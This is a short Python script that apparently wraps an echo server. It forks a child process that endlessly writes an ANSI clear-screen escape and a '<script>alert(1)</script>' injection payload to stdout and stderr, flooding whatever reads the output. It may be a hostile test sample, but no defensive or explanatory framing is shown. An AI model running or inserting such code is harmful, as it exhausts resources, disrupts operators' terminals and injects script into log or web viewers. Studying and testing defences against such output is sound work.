import os
import echo
if os.fork() == 0:
    line = b"\x1b[2J<script>alert(1)</script> flood " * 1000
    while True:
        os.write(1, line)
        os.write(2, line)
echo.serve()
